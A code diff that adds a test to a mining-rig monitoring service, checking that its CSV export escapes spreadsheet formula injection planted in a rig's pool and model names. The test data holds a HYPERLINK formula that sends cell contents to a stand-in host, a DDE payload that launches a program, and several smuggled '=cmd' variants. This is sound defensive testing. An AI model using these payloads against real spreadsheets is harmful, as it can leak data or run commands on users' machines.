@@ -262,3 +262,62 @@ testRigAttack("A reply of a million members", async (attacked, { rig }) => {
     assert(served.body.length < MAX_BYTES, `${path}: ${served.body.length}`);
   }
 });
+
+testRigAttack(
+  "A pool's name that is a formula in a spreadsheet",
+  async (attacked) => {
+    const formula = '=HYPERLINK("http://evil.example?"&A2;"ok")';
+    // It says anew what it is when it has restarted.
+    let uptimeS = 360_000;
+    const names = [
+      formula,
+      "+cmd|' /C calc'!A0",
+      "-cmd|1",
+      "@SUM(A1)",
+      "\t=cmd",
+      "\r=cmd",
+      "a;=cmd",
+    ];
+    for (const name of names) {
+      // Commas and quotes would end the cell, and a line break the row.
+      for (const text of [name, `${name},=1`, `${name}"\r\n=1`]) {
+        const reply = JSON.stringify({
+          STATUS: [{ STATUS: "S", When: 1, Code: 11 }],
+          SUMMARY: [{ Elapsed: uptimeS -= 3600, "MHS av": 5, Temperature: -5 }],
+          POOLS: [{
+            POOL: 0,
+            URL: "-1.evil.example:1",
+            Status: "Alive",
+            "Stratum Active": true,
+          }],
+          VERSION: [{ CGMiner: "4.11.1", API: "3.7", Type: text }],
+          id: 1,
+        });
+        const { body } = await attacked.get("/-/rigs/garage?format=csv", reply);
+        const [header = [], row = [], ...others] = readCells(body);
+        assertEquals([row.length, others], [header.length, []], body);
+        const dangerous = row.filter((cell) =>
+          /(?:^|[;\t\r\n])[=+\-@]|^[\t\r]/.test(cell)
+        );
+        assertEquals(dangerous, ["-5"], body);
+        assertEquals(row[header.indexOf("hottest_celsius")], "-5");
+        assertEquals(row[header.indexOf("pool")], "'-1.evil.example:1");
+        assert(/^'|;'=/.test(row[header.indexOf("model")] ?? ""), body);
+      }
+    }
+  },
+);
+
+/** The cells of a table, as RFC 4180 has them. */
+function readCells(text: string): string[][] {
+  const rows: string[][] = [[]];
+  for (
+    const [, quoted, bare = "", end] of text.matchAll(
+      /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g,
+    )
+  ) {
+    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? bare);
+    if (end !== ",") rows.push([]);
+  }
+  return rows.filter((row) => row.length > 0);
+}
